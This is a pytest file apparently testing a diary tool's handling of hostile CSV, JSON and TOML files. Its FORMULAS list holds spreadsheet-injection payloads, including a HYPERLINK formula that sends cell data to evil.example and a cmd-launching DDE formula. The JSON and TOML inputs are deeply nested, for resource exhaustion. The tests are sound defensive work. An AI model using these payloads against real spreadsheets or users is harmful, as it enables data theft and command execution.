"""Hostile and unlucky files (issue 16, items 2, 12, 16 and 20).

A red-team review found: an export whose undo log made the next `undo` run SQL of the
attacker's choosing (2); CSV exports that a spreadsheet would run as formulas (12); an
import that took an id next to the top of SQLite's range, after which every new entry
had an id `edit` and `delete` refuse (16); deeply nested or 5,000-digit JSON and TOML
that ended in "internal error" (20). Each test makes that file for real and runs paceit
on it.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from helpers import checkpoint, done, fails, fixed_clock, logical_dump, ok

pytestmark = pytest.mark.usefixtures("_clock")


@pytest.fixture
def _clock(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    with fixed_clock(monkeypatch):
        yield


def _snapshot(path: Path) -> list[str]:
    checkpoint(path)
    return logical_dump(path)


# --- item 12: a CSV export holds no formula a spreadsheet would run -----------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "=1+1",
    "'already quoted",
]


def _csv_cells(files: dict[str, str]) -> list[str]:
    tables = [text for name, text in files.items() if name.endswith(".csv")]
    return [cell for text in tables for row in csv.reader(io.StringIO(text)) for cell in row]


def _neutral(cell: str) -> bool:
    """Empty, a plain number (a spreadsheet reads -60 as a number), or not starting with
    what makes a spreadsheet evaluate the cell."""
    return not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("-").replace(".", "", 1).isdigit()


def test_csv_export_neutralises_formulas_and_says_so(isolated_db: Path, tmp_path: Path) -> None:
    ok("activity", "add", "walking", "--unit", "min", "--baseline", "10", "--at", "2026-11-01")
    for formula in FORMULAS:
        ok("pain", "4", "--note", formula, "--site", formula.replace(",", ";"), "--at", "2026-11-20T08:00")
        ok("goal", "add", "--", formula)
    ok("pain", "3", "--at", "2026-11-20T09:00-01:00", "--note", "fine")  # utc_offset -60: a number
    done("export", "--format", "csv", "--output", str(tmp_path / "folder"))
    done("export", "--output", str(tmp_path / "diary.zip"))
    done("export", "--output", str(tmp_path / "diary.json"))
    folder = {p.name: p.read_text() for p in (tmp_path / "folder").iterdir()}
    with zipfile.ZipFile(tmp_path / "diary.zip") as archive:
        zipped = {Path(n).name: archive.read(n).decode() for n in archive.namelist()}
    assert zipped == folder
    cells = _csv_cells(folder)
    assert all(_neutral(c) for c in cells), [c for c in cells if not _neutral(c)]
    for formula in FORMULAS:
        assert "'" + formula in cells  # one apostrophe in front: the text, shown as text
    assert "-60" in cells and "'-60" not in cells and "fine" in cells  # numbers and plain text untouched
    notes = [r["note"] for r in csv.DictReader(io.StringIO(folder["pain_entry.csv"]))]
    assert notes == ["'" + f for f in FORMULAS] + ["fine"]
    assert "apostrophe" in folder["README.txt"] and "formula" in folder["README.txt"]
    stored = json.loads((tmp_path / "diary.json").read_text())["tables"]["pain_entry"]["rows"]
    assert [r["note"] for r in stored] == [*FORMULAS, "fine"]  # the JSON export stays exact
    assert "formula" in ok("export", "--help").stdout


# --- item 16: an import never takes an id paceit would not give ----------------------------------

IMPORT_MAX_ID = 2**31 - 1


def _export_with_pain_id(tmp_path: Path, pain_id: int) -> Path:
    """An export of a diary with one pain entry, that entry's id changed to `pain_id`."""
    source = tmp_path / "source.db"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PACEIT_DB", str(source))
        ok("pain", "4", "--at", "2026-11-20T08:00", "--note", "from the other machine")
        done("export", "--output", str(tmp_path / "plain.json"))
    document = json.loads((tmp_path / "plain.json").read_text())
    document["tables"]["pain_entry"]["rows"][0]["id"] = pain_id
    for row in document["tables"]["audit"]["rows"]:
        row["row_key"] = str(pain_id)
        row["after"] = json.dumps(json.loads(row["after"]) | {"id": pain_id})
    target = tmp_path / f"id-{pain_id}.json"
    target.write_text(json.dumps(document))
    return target


@pytest.mark.parametrize("into", ["an empty diary", "a diary with entries"])
@pytest.mark.parametrize("pain_id", [2**62 - 1, 2**53, IMPORT_MAX_ID + 1])
def test_an_import_refuses_an_id_beyond_paceit_s_own_range(
    isolated_db: Path, tmp_path: Path, into: str, pain_id: int
) -> None:
    if into == "a diary with entries":
        ok("pain", "2", "--at", "2026-11-19T08:00")
    before = _snapshot(isolated_db) if isolated_db.exists() else None
    line = fails("import", str(_export_with_pain_id(tmp_path, pain_id)))
    assert "'pain_entry'" in line and "field 'id'" in line and f"from 1 to {IMPORT_MAX_ID}" in line, line
    assert (_snapshot(isolated_db) if isolated_db.exists() else None) == before  # no new diary either


@pytest.mark.parametrize("into", ["an empty diary", "a diary with entries"])
def test_after_an_import_at_the_top_of_the_range_new_entries_can_be_edited(
    isolated_db: Path, tmp_path: Path, into: str
) -> None:
    if into == "a diary with entries":
        ok("pain", "2", "--at", "2026-11-19T08:00")
    done("import", str(_export_with_pain_id(tmp_path, IMPORT_MAX_ID)))
    ok("pain", "5", "--at", "2026-11-21T08:00")
    new_id = max(e["id"] for e in json.loads(ok("history", "--json").stdout))
    assert new_id == IMPORT_MAX_ID + 1
    ok("edit", "pain", str(new_id), "--pain", "6")
    ok("delete", "pain", str(new_id))
    ok("edit", "pain", str(IMPORT_MAX_ID), "--pain", "3")


# --- item 20: nesting and numbers too big to read are bad input, not an internal error ----------

DIGITS = "1" * 5000
JSON_FILES = {
    "nested lists": "[" * 100_000 + "]" * 100_000,
    "nested objects": '{"a":' * 50_000 + "1" + "}" * 50_000,
    "a 5,000-digit number": '{"paceit_export": ' + DIGITS + "}",
    "a 5,000-digit id in a row": '{"paceit_export": {"format": "paceit-export"}, "tables": {"pain_entry": {"rows": '
    '[{"id": ' + DIGITS + "}]}}}",
    "a 5,000-digit negative number": "[-" + DIGITS + "]",
}
TOML_FILES = {
    "nested arrays": "a = " + "[" * 100_000 + "]" * 100_000,
    "nested inline tables": "a = " + "{b = " * 20_000 + "1" + "}" * 20_000,
    "a 5,000-digit number": "a = " + DIGITS,
    "a 5,000-digit baseline": '[prescription]\nby = "Dr A"\n\n[[activity]]\nname = "walking"\nunit = "min"\n'
    "baseline = " + DIGITS + "\n",
    "a 5,000-digit hexadecimal baseline": '[prescription]\nby = "Dr A"\n\n[[activity]]\nname = "walking"\n'
    'unit = "min"\nbaseline = 0x' + "f" * 5000 + "\n",  # read whole (base 16 has no digit limit), too long to show
}


@pytest.mark.parametrize("kind", list(JSON_FILES))
def test_an_unreadable_json_import_is_one_plain_line(isolated_db: Path, tmp_path: Path, kind: str) -> None:
    ok("pain", "2", "--at", "2026-11-19T08:00")
    before = _snapshot(isolated_db)
    path = tmp_path / "hostile.json"
    path.write_text(JSON_FILES[kind])
    line = fails("import", str(path))
    assert str(path) in line and "nothing was imported" in line and "internal error" not in line, line
    assert _snapshot(isolated_db) == before


@pytest.mark.parametrize("kind", list(TOML_FILES))
def test_an_unreadable_prescription_is_one_plain_line(isolated_db: Path, tmp_path: Path, kind: str) -> None:
    ok("pain", "2", "--at", "2026-11-19T08:00")
    before = _snapshot(isolated_db)
    path = tmp_path / "hostile.toml"
    path.write_text(TOML_FILES[kind])
    line = fails("prescription", "import", str(path))
    assert line.startswith(f"paceit: error: {path}: ") and "internal error" not in line, line
    assert _snapshot(isolated_db) == before
